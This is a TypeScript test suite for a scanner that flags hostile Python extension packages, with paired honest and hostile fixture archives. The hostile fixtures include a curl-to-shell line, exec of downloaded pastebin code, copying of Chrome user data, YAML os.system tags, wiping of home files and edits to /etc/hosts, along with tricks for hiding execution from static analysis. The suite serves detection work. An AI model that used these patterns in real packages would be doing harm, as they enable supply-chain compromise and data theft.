import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { analyseFile, zipOf } from '../support/archives.js';

type Files = string | Readonly<Record<string, string>>;

let folder: string;
beforeAll(() => {
  folder = mkdtempSync(join(tmpdir(), 'registry-outside-'));
});
afterAll(() => rmSync(folder, { recursive: true, force: true }));

/** True if the package is held. A single text is its `__init__.py`. */
async function isHeld(files: Files): Promise<boolean> {
  const path = join(folder, 'archive.zip');
  writeFileSync(path, await zipOf(typeof files === 'string' ? { '__init__.py': files } : files));
  return (await analyseFile(path)).findings.some(({ level }) => level === 'hold');
}

const RUN = 'import os\ndef run(*a): os.system("a")\n';
const HERE = 'import importlib, os, pathlib, pkgutil\nHERE = os.path.dirname(__file__)\n';
const SCRIPT = 'import os\nos.system("a")\n';
const LOADER =
  'import importlib, os\ndef load_nodes(folder):\n    for file in os.listdir(os.path.join(os.path.dirname(__file__), folder)):\n        if file.startswith("node_"): importlib.import_module(f".{folder}.{file[:-3]}", __package__)\n';
const FETCH =
  'import os, requests\nPATH = os.path.join(os.path.dirname(__file__), "a", "b.json")\ndef fetch(): requests.get("https://a.example")\n';
const INSTALL = (name: string, all: string): string =>
  `import os, re, subprocess, sys\nCUT = re.compile("[=<>]")\nwith open(os.path.join(os.path.dirname(__file__), "a", "requirements.txt")) as file:\n    wanted = {${name} for line in file.readlines()}\nsubprocess.run([sys.executable, "-m", "pip", "install", *(${all})])\n`;
const THREAD = 'import os, threading\nclass T(threading.Thread):\n    def run(self): os.system("a")\n';
const LOAD =
  'function load(s) { const e = document.createElement("script"); e.src = s; document.head.appendChild(e); }\n';
const page = (source: string): Files => ({ '__init__.py': 'WEB_DIRECTORY = "./web"\n', 'web/a.js': source });

describe('the checks tell apart', () => {
  it.each<[string, { honest: readonly Files[]; hostile: readonly Files[] }]>([
    [
      'the main block of a script',
      {
        honest: [
          'import os, sys\nif __name__ == "__main__" and len(sys.argv) > 1: os.system("a")\n',
          'import os\nif not __name__ != "__main__": os.system("a")\n',
          'import os\nif __name__ != "__main__":\n    x = 1\nelse:\n    os.system("a")\n',
          'import os\nx = 1\nif x > 1:\n    y = 2\nelif __name__ == "__main__":\n    os.system("a")\n',
          'import os\ndef run(): os.system("a")\n__name__ == "__main__" and run()\n',
          'import os\nif __name__ in ("__main__", "__mp_main__"): os.system("a")\n',
          'import os\nIS_SCRIPT = __name__ == "__main__"\nif IS_SCRIPT:\n    os.system("a")\n',
        ],
        hostile: [
          'import os\nif __name__ == "__main__" or True: os.system("a")\n',
          'import os\ndef run(): os.system("a")\n__name__ == "__main__" or run()\n',
          'import os\nif __name__ in ("__main__", "a"): os.system("a")\n',
          {
            '__init__.py': 'x = 1\n',
            'install.py': 'import os\n__name__ == "__main__" and os.system("curl https://a.example/a | sh")\n',
          },
          'import os\nfor __name__ in ["__main__"]: pass\nif __name__ == "__main__": os.system("a")\n',
          'import os\nif (__name__ := "__main__") == "__main__": pass\nif __name__ == "__main__": os.system("a")\n',
          'import os\nif __name__ != "__main__": os.system("a")\n',
          'import os\nif not __name__ == "__main__": os.system("a")\n',
          'import os\nif __name__ == "__main__":\n    x = 1\nelse:\n    os.system("a")\n',
          'import os\nif __name__ != "__main__" or os:\n    x = 1\nelif os:\n    os.system("a")\n',
        ],
      },
    ],
    [
      'the files that a loop loads',
      {
        honest: [
          {
            '__init__.py': `${HERE}for file in sorted(pathlib.Path(__file__).parent.glob("node_*.py")):\n    importlib.import_module(f".{file.stem}", __package__)\n`,
            'node_a.py': 'x = 1\n',
            'release.py': SCRIPT,
          },
          {
            '__init__.py': `${HERE}SKIP = {"__init__.py", "dev.py"}\nfor file in os.listdir(HERE):\n    if not file.endswith(".py") or file in SKIP or file.startswith("test_"): continue\n    importlib.import_module(f".{file[:-3]}", package=__name__)\n`,
            'a.py': 'x = 1\n',
            'dev.py': SCRIPT,
            'test_a.py': SCRIPT,
          },
          {
            '__init__.py': `${HERE}from . import nodes\nfor info in pkgutil.walk_packages(nodes.__path__, nodes.__name__ + "."):\n    importlib.import_module(info.name)\n`,
            'nodes/__init__.py': '',
            'nodes/a.py': 'x = 1\n',
            'tools/publish.py': SCRIPT,
          },
          {
            '__init__.py': `${HERE}from . import nodes\ndef load():\n    for info in pkgutil.iter_modules(nodes.__path__):\n        importlib.import_module(f".nodes.{info.name}", __package__)\nload()\n`,
            'nodes/__init__.py': '',
            'nodes/a.py': 'x = 1\n',
            'release.py': SCRIPT,
          },
          // Names that each step of the loop assigns.
          ...[
            'for file in os.listdir(HERE):\n    if not file.startswith("node_"): continue\n    file = file.split(".")[0]\n    importlib.import_module("." + file, __name__)\n',
            'for file in os.listdir(HERE):\n    found = re.match(r"^(node_\\w+)\\.py$", file)\n    if found: importlib.import_module("." + found.group(1), __name__)\n',
            'IS_NODE = re.compile(r"node_(?P<name>\\w+)\\.py")\nfor file in os.listdir(HERE):\n    found = IS_NODE.fullmatch(file)\n    if not found: continue\n    importlib.import_module(".node_" + found.group("name"), __name__)\n',
            'for file in fnmatch.filter(os.listdir(HERE), "node_*.py"):\n    importlib.import_module("." + file[:-3], __name__)\n',
          ].map((loop) => ({
            '__init__.py': `${HERE}import fnmatch, re\n${loop}`,
            'node_a.py': 'x = 1\n',
            'release.py': SCRIPT,
          })),
          {
            '__init__.py': `${HERE}import importlib.util\nfor root, dirs, files in os.walk(HERE):\n    if root == HERE: continue\n    for file in files:\n        path = os.path.join(root, file)\n        name = file[:-3]\n        spec = importlib.util.spec_from_file_location(name, path)\n        if spec: spec.loader.exec_module(importlib.util.module_from_spec(spec))\n`,
            'nodes/a.py': 'name = 1\n',
            'release.py': SCRIPT,
          },
          {
            '__init__.py': 'from .loader import load_nodes\nload_nodes("nodes")\n',
            'loader.py': LOADER,
            'nodes/node_a.py': 'x = 1\n',
            'nodes/release.py': SCRIPT,
          },
          {
            '__init__.py': `${HERE}for info in pkgutil.iter_modules(__path__):\n    if info.name.startswith("node_"): importlib.import_module("." + info.name, __name__)\n`,
            'node_a.py': 'x = 1\n',
            'release.py': SCRIPT,
          },
        ],
        hostile: [
          // A function that two modules call with different values.
          {
            '__init__.py': 'from .loader import load_nodes\nfrom . import more\nload_nodes("nodes")\n',
            'more.py': 'from .loader import load_nodes\nload_nodes("other")\n',
            'loader.py': LOADER,
            'nodes/node_a.py': 'x = 1\n',
            'other/node_b.py': SCRIPT,
          },
          // A name that only some steps of the loop assign.
          ...[
            'for file in os.listdir(HERE):\n    name = "node_a"\n    if not HAS: name = file[:-3]\n    importlib.import_module("." + name, __name__)\n',
            'for file in os.listdir(HERE):\n    name = "node_a"\n    try: missing.x\n    except Exception: name = file[:-3]\n    importlib.import_module("." + name, __name__)\n',
          ].map((loop) => ({
            '__init__.py': `${HERE}try:\n    import missing\n    HAS = True\nexcept ImportError:\n    HAS = False\n${loop}`,
            'node_a.py': 'x = 1\n',
            'release.py': SCRIPT,
          })),
          {
            '__init__.py': `${HERE}for file in sorted(pathlib.Path(__file__).parent.glob("node_*.py")):\n    importlib.import_module(f".{file.stem}", __package__)\n`,
            'node_a.py': SCRIPT,
          },
          {
            '__init__.py': `${HERE}for file in os.listdir(HERE):\n    importlib.import_module(f".{file[:-3]}", package=__name__)\n`,
            'release.py': SCRIPT,
          },
          {
            '__init__.py': `${HERE}from . import nodes\nfor info in pkgutil.walk_packages(nodes.__path__, nodes.__name__ + "."):\n    pass\n`,
            'nodes/__init__.py': '',
            'nodes/inner/__init__.py': SCRIPT,
          },
          // The values that a thread passes to the function are not known.
          {
            '__init__.py': `${HERE}import threading\ndef load(folder):\n    for file in os.listdir(os.path.join(HERE, folder)):\n        importlib.import_module(f".{folder}.{file[:-3]}", __package__)\nload("nodes")\nthreading.Thread(target=load, args=("other",)).start()\n`,
            'nodes/a.py': 'x = 1\n',
            'other/b.py': SCRIPT,
          },
          // The names that a loop leaves out are changed where the extraction does not see it.
          ...[
            'SKIP = {"evil"}\ntry:\n    import missing\nexcept ImportError:\n    SKIP.remove("evil")\n',
            'SKIP = {"evil"}\nos.environ["A"] = "1"\nif os.environ.get("A"): SKIP = set()\n',
            'SKIP = {"evil"}\nimport threading\nthreading.Thread(target=SKIP.clear).start()\n',
            'SKIP = {"evil"}\ndef change(names): names.clear()\nchange(SKIP)\n',
            'SKIP = {"evil"}\nfrom .other import change\n',
          ].map((before) => ({
            '__init__.py': `${HERE}${before}for file in os.listdir(HERE):\n    if file[:-3] not in SKIP: importlib.import_module(f".{file[:-3]}", __package__)\n`,
            'evil.py': SCRIPT,
            'other.py': 'import sys\nsys.modules[__package__].SKIP.clear()\n',
          })),
          {
            '__init__.py': `${HERE}import sys\nsys.path += [os.path.join(HERE, "lib")]\nfor file in os.listdir(os.path.join(HERE, "lib")):\n    importlib.import_module(file[:-3])\n`,
            'lib/evil.py': SCRIPT,
          },
          {
            '__init__.py': `${HERE}import sys\nsys.path.insert(0, HERE)\nnames = ["good"]\nnames += [file[:-3] for file in os.listdir(HERE)]\nfor name in names: importlib.import_module(name)\n`,
            'good.py': 'x = 1\n',
            'evil.py': SCRIPT,
          },
          {
            '__init__.py': `${HERE}def load(name="good"): importlib.import_module(f".{name}", __package__)\nload()\nfor file in os.listdir(HERE): load(file[:-3])\n`,
            'good.py': 'x = 1\n',
            'evil.py': SCRIPT,
          },
          // The package is loaded before the module that it lacks.
          {
            '__init__.py': `${HERE}for file in os.listdir(HERE):\n    importlib.import_module(f".{file[:-3]}.more", __package__)\n`,
            'a.py': SCRIPT,
          },
        ],
      },
    ],
    [
      'a folder on the search path and a file',
      {
        honest: [
          {
            '__init__.py': `${HERE}import sys\nsys.path += [os.path.join(HERE, "lib")]\nimport more\n`,
            'lib/more.py': 'x = 1\n',
          },
          {
            '__init__.py': `${HERE}import sys\nsys.path.append(os.path.dirname(os.path.join(HERE, "a.json")))\n`,
            'a.json': '{}',
          },
          {
            '__init__.py': `${HERE}import sys\nFILE = pathlib.Path(__file__).parent / "a.json"\nsys.path.append(str(FILE.parent))\n`,
            'a.json': '{}',
          },
        ],
        hostile: [
          ...[
            'sys.path.insert(0, os.path.join(HERE, "a.pak"))',
            'sys.path[:0] = [HERE + "/a.pak"]',
            'sys.path = [os.path.join(HERE, "a.pak")] + sys.path',
            'setattr(sys, "path", [HERE + "/a.pak"])',
          ].map((change) => ({ '__init__.py': `${HERE}import sys\n${change}\nimport more\n`, 'a.pak': 'PK' })),
          ...[
            'sys.path[:0] = [HERE + "/lib"]',
            'sys.path += [os.path.join(HERE, "lib")]',
            'sys.path = [HERE + "/lib", *sys.path]',
            'from sys import path\npath += [HERE + "/lib"]',
            'setattr(sys, "path", [HERE + "/lib"])',
          ].map((change) => ({ '__init__.py': `${HERE}import sys\n${change}\nimport more\n`, 'lib/more.py': SCRIPT })),
        ],
      },
    ],
    [
      'a harmless command that is the only one and one that others replace',
      {
        honest: ['import os\ndef probe(command="ffmpeg -version"): os.system(command)\nprobe()\n'],
        hostile: [
          'import os\nclass A:\n    def __init_subclass__(cls, hook="ffmpeg -version"): os.system(hook)\nclass B(A, hook="a"): pass\n',
          'import os\nfrom dataclasses import dataclass\n@dataclass\nclass A:\n    hook: str = "ffmpeg -version"\n    def __post_init__(self): os.system(self.hook)\nA("a")\n',
          'import os\nfrom typing import NamedTuple\nclass A(NamedTuple):\n    hook: str = "ffmpeg -version"\n    def go(self): os.system(self.hook)\nA(hook="a").go()\n',
          'import dataclasses, os\n@dataclasses.dataclass\nclass A:\n    hook: str = "ffmpeg -version"\n    def go(self): os.system(self.hook)\ndataclasses.replace(A(), hook="a").go()\n',
          'import os\ndef probe(command="ffmpeg -version"): os.system(command)\nprobe.__defaults__ = ("a",)\nprobe()\n',
        ],
      },
    ],
    [
      'a function in a field of a data class',
      {
        honest: [
          `${RUN}from dataclasses import dataclass\n@dataclass\nclass Task:\n    name: str\n    go: object\nTASKS = [Task("a", run)]\n`,
        ],
        hostile: [
          `${RUN}from dataclasses import dataclass\n@dataclass\nclass Task:\n    name: str\n    go: object\nfor task in [Task("a", run)]: task.go()\n`,
        ],
      },
    ],
    [
      'a method of a subclass that a class method calls',
      {
        honest: [
          `${RUN}class Base:\n    @classmethod\n    def start(cls): cls().go()\n    def go(self): pass\nclass Own(Base):\n    def go(self): run()\nBase.start()\n`,
        ],
        hostile: [
          `${RUN}class Base:\n    @classmethod\n    def start(cls): cls().go()\n    def go(self): pass\nclass Own(Base):\n    def go(self): run()\nOwn.start()\n`,
        ],
      },
    ],
    [
      'a class that a thread calls',
      {
        honest: [`${RUN}import threading\nclass Boot:\n    def __init__(self): run()\nthreading.Thread(target=Boot)\n`],
        hostile: [
          `${RUN}import threading\nclass Boot:\n    def __init__(self): run()\nthreading.Thread(target=Boot).start()\n`,
        ],
      },
    ],
    [
      'a method of a member of an enumeration',
      {
        honest: [
          `${RUN}from enum import Enum\nclass Step(Enum):\n    FIRST = 1\n    def go(self): run()\nprint(Step.FIRST.name)\n`,
        ],
        hostile: [
          `${RUN}from enum import Enum\nclass Step(Enum):\n    FIRST = 1\n    def go(self): run()\nStep.FIRST.go()\n`,
        ],
      },
    ],
    [
      'the result of a property',
      {
        honest: [
          `${RUN}class Client:\n    def ping(self): run()\nclass App:\n    @property\n    def client(self): return Client()\nAPP = App()\n`,
        ],
        hostile: [
          `${RUN}class Client:\n    def ping(self): run()\nclass App:\n    @property\n    def client(self): return Client()\nApp().client.ping()\n`,
        ],
      },
    ],
    [
      'a class that is derived from one with a parameter',
      {
        honest: [
          `${RUN}from typing import Generic, TypeVar\nT = TypeVar("T")\nclass Base(Generic[T]):\n    def go(self): run()\nclass Own(Base[str]): pass\nOwn()\n`,
        ],
        hostile: [
          `${RUN}from typing import Generic, TypeVar\nT = TypeVar("T")\nclass Base(Generic[T]):\n    def go(self): run()\nclass Own(Base[str]): pass\nOwn().go()\n`,
        ],
      },
    ],
    [
      'an attribute of a function',
      {
        honest: [`${RUN}def hook(): pass\nhook.go = run\nhook()\n`],
        hostile: [`${RUN}def hook(): pass\nhook.go = run\nhook.go()\n`],
      },
    ],
    [
      'a union of dictionaries',
      {
        honest: [`${RUN}ALL = {"a": print} | {"b": run}\n`],
        hostile: [`${RUN}ALL = {"a": print} | {"b": run}\nALL["b"]()\n`],
      },
    ],
    [
      'a value of an ordered dictionary',
      {
        honest: [`${RUN}from collections import OrderedDict\nsteps = OrderedDict()\nsteps["a"] = run\n`],
        hostile: [
          `${RUN}from collections import OrderedDict\nsteps = OrderedDict()\nsteps["a"] = run\nfor step in steps.values(): step()\n`,
        ],
      },
    ],
    [
      'a name that an addition makes',
      {
        honest: [`${RUN}name = "sys"\nname += "tem"\nprint(name)\n`],
        hostile: [`${RUN}name = "sys"\nname += "tem"\ngetattr(os, name)("a")\n`],
      },
    ],
    [
      'functions of the modules that a loop loads',
      {
        honest: [
          {
            '__init__.py': `${HERE}for file in pathlib.Path(HERE).glob("node_*.py"):\n    module = importlib.import_module("." + file.stem, __name__)\n    module.register()\n`,
            'node_a.py': `${RUN}def register(): pass\n`,
          },
        ],
        hostile: [
          {
            '__init__.py': `${HERE}for file in pathlib.Path(HERE).glob("node_*.py"):\n    module = importlib.import_module("." + file.stem, __name__)\n    module.register()\n`,
            'node_a.py': `${RUN}register = run\n`,
          },
          {
            '__init__.py': `${HERE}import importlib.util\nfor file in os.listdir(HERE):\n    spec = importlib.util.spec_from_file_location(file, os.path.join(HERE, file))\n    module = importlib.util.module_from_spec(spec)\n    spec.loader.exec_module(module)\n    getattr(module, "register")()\n`,
            'node_a.py': `${RUN}def register(): run()\n`,
          },
        ],
      },
    ],
    [
      'the modules that an import of all names loads',
      {
        honest: [
          {
            '__init__.py': 'from .nodes import *\n',
            'nodes/__init__.py': 'NODES = {"A": 1}\n__all__ = list(NODES)\n',
            'nodes/release.py': SCRIPT,
          },
        ],
        hostile: [
          {
            '__init__.py': `${HERE}__all__ = [file[:-3] for file in os.listdir(HERE)]\nfrom . import *\n`,
            'a.py': SCRIPT,
          },
          {
            '__init__.py': 'from .nodes import *\n',
            'nodes/__init__.py': `${HERE}__all__ = [file.stem for file in pathlib.Path(HERE).glob("*.py")]\n`,
            'nodes/a.py': SCRIPT,
          },
          { '__init__.py': `${HERE}__path__ = [os.path.join(HERE, "lib")]\nfrom . import a\n`, 'lib/a.py': SCRIPT },
        ],
      },
    ],
    [
      'a function that is put into another module',
      {
        honest: [
          {
            '__init__.py': `${RUN}from . import a\na.callback = run\n`,
            'a.py': 'def callback(): pass\ndef go(): callback()\n',
          },
        ],
        hostile: [
          {
            '__init__.py': `${RUN}from . import a\na.callback = run\na.go()\n`,
            'a.py': 'def callback(): pass\ndef go(): callback()\n',
          },
        ],
      },
    ],
    [
      'the methods of an extension that the host calls',
      {
        honest: [`${RUN}class Own:\n    def other(self): run()\nasync def comfy_entrypoint(): return Own()\n`],
        hostile: [`${RUN}class Own:\n    async def on_load(self): run()\nasync def comfy_entrypoint(): return Own()\n`],
      },
    ],
    [
      'a thread that is made and one that is started',
      {
        honest: [
          `${RUN}import threading\nt = threading.Thread(target=run)\nclass N:\n    def go(self): t.start()\n`,
          `${RUN}import multiprocessing\np = multiprocessing.Process(target=run)\n`,
          `${THREAD}t = T()\nclass N:\n    def go(self): t.start()\n`,
        ],
        hostile: [
          `${RUN}import threading\nthreading.Thread(target=run).start()\n`,
          `${RUN}import threading\nt = threading.Timer(1, run)\ngetattr(t, "st" + "art")()\n`,
          `${RUN}import threading\nlist(map(threading.Thread.start, [threading.Thread(target=run)]))\n`,
          `${THREAD}T().start()\n`,
          `${RUN}import threading\nclass T(threading.Timer):\n    def run(self): self.function()\nT(1, run).start()\n`,
        ],
      },
    ],
    [
      'the special methods that a statement calls and others',
      {
        honest: [
          'import os\nclass A:\n    def __enter__(self): os.system("a")\n    def __len__(self): return 1\na = A()\nprint(a, len(a))\nif a: pass\n',
          'import os\nclass A:\n    def __rshift__(self, o): os.system("a")\n    def __add__(self, o): return self\na = A() + A()\n',
        ],
        hostile: [
          'import os\nclass A:\n    def __bool__(self): os.system("a")\nany([A()])\n',
          'import os\nclass A(dict):\n    def __missing__(self, k): os.system("a")\n"%(x)s" % A()\n',
          'import contextlib, os\nclass A:\n    def __enter__(self): os.system("a")\n    def __exit__(self, *a): pass\ncontextlib.ExitStack().enter_context(A())\n',
          'import contextlib, os\nclass A:\n    def close(self): os.system("a")\nwith contextlib.closing(A()): pass\n',
          'import os\nclass A:\n    def write(self, s): os.system("a")\nprint("x", file=A())\n',
          'import os, sys\nclass A:\n    def write(self, s): os.system("a")\nsys.stdout = A()\n',
          'import os\nclass A:\n    @property\n    def x(self): os.system("a")\ngetattr(A(), "x")\n',
        ],
      },
    ],
    [
      'a client that is made and one that connects',
      {
        honest: [
          'import http.client, smtplib, telegram, websocket\nhttp.client.HTTPSConnection("a.example")\nsmtplib.SMTP()\ntelegram.Bot(token="a")\nwebsocket.WebSocketApp("ws://a.example")\n',
          'from huggingface_hub import hf_hub_download\nhf_hub_download("a/b", "c.json", local_files_only=True)\n',
        ],
        hostile: [
          'import http.client\nhttp.client.HTTPSConnection("a.example").request("GET", "/")\n',
          'import smtplib\nsmtplib.SMTP("a.example")\n',
          'import websocket\nwebsocket.WebSocketApp("ws://a.example").run_forever()\n',
          'from huggingface_hub import hf_hub_download\nhf_hub_download("a/b", "c.json")\n',
          'from huggingface_hub import hf_hub_download\nhf_hub_download("a/b", "local_files_only=True", local_files_only=True and False)\n',
          'from requests.sessions import Session\nSession().post("https://a.example")\n',
        ],
      },
    ],
    [
      'another name of a function and a use of it',
      {
        honest: [
          'import subprocess\nProcess = subprocess.Popen\n',
          'import functools, subprocess\nrun = functools.partial(subprocess.run, text=True)\ndef probe(path, runner=subprocess.run): return runner(["ffprobe", path])\n',
        ],
        hostile: [
          'import os\nrun = os.system\n',
          'import subprocess\nrun = subprocess.run\nrun(["a"])\n',
          'import functools, subprocess\nfunctools.partial(subprocess.run, text=True)(["a"])\n',
          'import subprocess, threading\nthreading.Thread(target=subprocess.run, args=(["a"],)).start()\n',
          'import subprocess\ncall = {"a": subprocess.run}\n',
        ],
      },
    ],
    [
      'a tag of YAML and a text about one',
      {
        honest: [
          { '__init__.py': 'x = 1\n', 'a.yaml': '# like !!python/object/apply:os.system\na: 1\n' },
          { '__init__.py': 'x = 1\n', 'a.yaml': 'a: "!!python/object/apply:os.system is refused"\n' },
        ],
        hostile: [
          { '__init__.py': 'x = 1\n', 'a.yaml': 'a: !!python/object/apply:os.system ["id"]\n' },
          { '__init__.py': 'x = 1\n', 'a.yaml': '{"a # b": !!python/object/apply:os.system ["id"]}\n' },
          { '__init__.py': 'x = 1\n', 'a.yaml': 'a: &b !!python/object/apply:os.system ["id"]\n' },
        ],
      },
    ],
    [
      'what is read from the address of a text and what is sent there',
      {
        honest: [
          'import requests\nclass A:\n    def go(self, x): return requests.get("https://pastebin.com/raw/" + x).text\n',
          'import subprocess\nclass A:\n    def go(self, x): subprocess.run(["C:\\\\Program Files\\\\Google\\\\Chrome\\\\Application\\\\chrome.exe", x])\n',
        ],
        hostile: [
          'import requests\nclass A:\n    def go(self, x): exec(requests.get("https://pastebin.com/raw/abc").text)\n',
          'import subprocess\nclass A:\n    def go(self, x): subprocess.run(["cp", "C:\\\\Users\\\\a\\\\Google\\\\Chrome\\\\User Data", x])\n',
        ],
      },
    ],
    [
      'a file that the archive has and one that it lacks',
      {
        honest: [
          { '__init__.py': `${FETCH}if not os.path.exists(PATH): fetch()\n`, 'a/b.json': '{}' },
          { '__init__.py': `${FETCH}if os.path.isfile(PATH):\n    x = 1\nelse:\n    fetch()\n`, 'a/b.json': '{}' },
          { '__init__.py': `${FETCH}if not len(os.listdir(os.path.dirname(PATH))): fetch()\n`, 'a/b.json': '{}' },
          {
            '__init__.py': `${FETCH}def ensure():\n    if os.path.exists(PATH): return\n    fetch()\nensure()\n`,
            'a/b.json': '{}',
          },
        ],
        hostile: [
          { '__init__.py': `${FETCH}if not os.path.exists(PATH): fetch()\n` },
          { '__init__.py': `${FETCH}if os.path.exists(PATH): fetch()\n`, 'a/b.json': '{}' },
          { '__init__.py': `${FETCH}if not os.path.exists(PATH) or os: fetch()\n`, 'a/b.json': '{}' },
          { '__init__.py': `${FETCH}if not len(os.listdir(os.path.dirname(PATH))): fetch()\n` },
          {
            '__init__.py': `${FETCH}def ensure(path):\n    if not os.path.exists(path): fetch()\nensure(PATH)\nensure("c")\n`,
            'a/b.json': '{}',
          },
        ],
      },
    ],
    [
      'requirements of a part of the package and other packages',
      {
        honest: [
          { '__init__.py': INSTALL('CUT.split(line.strip())[0]', 'wanted - installed()'), 'a/requirements.txt': 'b\n' },
        ],
        hostile: [
          { '__init__.py': INSTALL('"unheard-of-package"', 'wanted - installed()'), 'a/requirements.txt': 'b\n' },
          { '__init__.py': INSTALL('line', 'wanted | {"unheard-of-package"}'), 'a/requirements.txt': 'b\n' },
        ],
      },
    ],
    [
      'a function that replaces one, and a name that a loop over modules looks for',
      {
        honest: [
          'import urllib.request\norig = urllib.request.OpenerDirector.open\ndef wrap(o, url): return orig(o, url)\nurllib.request.OpenerDirector.open = wrap\n',
          'import sys\ndef find(name):\n    for key, module in sys.modules.items():\n        found = getattr(module, name, None)\n        if found: return found\nclass A:\n    def go(self, x): return find("Yolo")(x)\n',
          'import subprocess, sys\ndef ensure(package, name=None): subprocess.check_call([sys.executable, "-m", "pip", "install", name or package])\nensure("cv2", "numpy")\n',
        ],
        hostile: [
          'import os, sys\ndef wrap(*a): os.system("a")\nsys.excepthook = wrap\n',
          'import sys\ndef find(name):\n    for key, module in sys.modules.items():\n        found = getattr(module, name, None)\n        if found: return found\nclass A:\n    def go(self, x): return find("system")(x)\n',
          'import subprocess, sys\ndef ensure(package, name=None): subprocess.check_call([sys.executable, "-m", "pip", "install", name or package])\nensure("unheard-of-package")\n',
        ],
      },
    ],
  ])('%s', async (_name, { honest, hostile }) => {
    const held = async (all: readonly Files[]): Promise<boolean[]> => {
      const found: boolean[] = [];
      for (const files of all) found.push(await isHeld(files));
      return found;
    };
    expect({ honest: await held(honest), hostile: await held(hostile) }).toEqual({
      honest: honest.map(() => false),
      hostile: hostile.map(() => true),
    });
  });
});

describe('the checks hold', () => {
  it.each<[string, Files]>([
    [
      'what the host calls on an extension',
      'import os\nfrom comfy_api.latest import ComfyExtension\nclass E(ComfyExtension):\n    async def on_load(self): os.system("a")\nasync def comfy_entrypoint(): return E()\n',
    ],
    [
      'a list of core-nodes that starts a program',
      'import os\nfrom comfy_api.latest import ComfyExtension\nclass E(ComfyExtension):\n    async def get_node_list(self):\n        os.system("a")\n        return []\n',
    ],
    [
      'an own function by the name of the own module',
      `${RUN}import sys\ngetattr(sys.modules[__name__], "r" + "un")()\n`,
    ],
    [
      'a function of the package by the name of the package',
      {
        '__init__.py': 'import os\ndef run(): os.system("a")\nfrom . import part\n',
        'part.py': 'import sys\nsys.modules[__package__].run()\n',
      },
    ],
    ['a script of the host in other letters', { '__init__.py': 'x = 1\n', 'Prestartup_Script.py': SCRIPT }],
    ['a path with parts that do nothing', { '__init__.py': 'x = 1\n', './prestartup_script.py': 'x = 1\n' }],
    ['a path with empty parts', { '__init__.py': 'from .a import b\n', 'a//b.py': 'x = 1\n' }],
    [
      'methods of all subclasses',
      'import os\nclass A: pass\nclass B(A):\n    def go(self): os.system("a")\nfor c in A.__subclasses__(): c().go()\n',
    ],
    [
      'an object made without its constructor',
      'import os\nclass A:\n    def __new__(cls):\n        made = object.__new__(cls)\n        made.go()\n        return made\n    def go(self): os.system("a")\nA()\n',
    ],
    ['constructors of YAML', `${RUN}import yaml\nyaml.SafeLoader.add_constructor("!run", run)\n`],
    ['the body of a class that a function makes', `${RUN}import types\ntypes.new_class("A", (), {}, run)\n`],
    ['hooks of models', `${RUN}import torch\ntorch.nn.Identity().register_forward_pre_hook(run)\n`],
    [
      'modules in a folder that is added to the package',
      {
        '__init__.py':
          'import os\n__path__.append(os.path.join(os.path.dirname(__file__), "assets"))\nfrom . import boot\n',
        'assets/boot.py': SCRIPT,
      },
    ],
    ['code that Cython runs', 'import Cython\nCython.inline("x")\n'],
    ['reports to a service', 'import os, sentry_sdk\nsentry_sdk.capture_message("a")\n'],
    [
      'the source of a module of the host',
      'import pathlib, server\npath = pathlib.Path(server.__file__)\npath.write_text("a")\n',
    ],
    ['all files of the user', 'from pathlib import Path\nfor path in Path.home().rglob("*"): path.write_bytes(b"")\n'],
    ['the hosts of the system', 'open("/etc/hosts", "a").write("127.0.0.1 a.example")\n'],
    [
      'a program whose further arguments clone a repository',
      'import os\nos.execvp("git", ["git", "clone", "https://a.example/b"])\n',
    ],
    [
      'the second of two scripts from elsewhere',
      page(`${LOAD}load("https://code.jquery.com/a.js"); load("https://a.example/b.js");\n`),
    ],
  ])('%s', async (_name, files) => {
    expect(await isHeld(files)).toBe(true);
  });
});
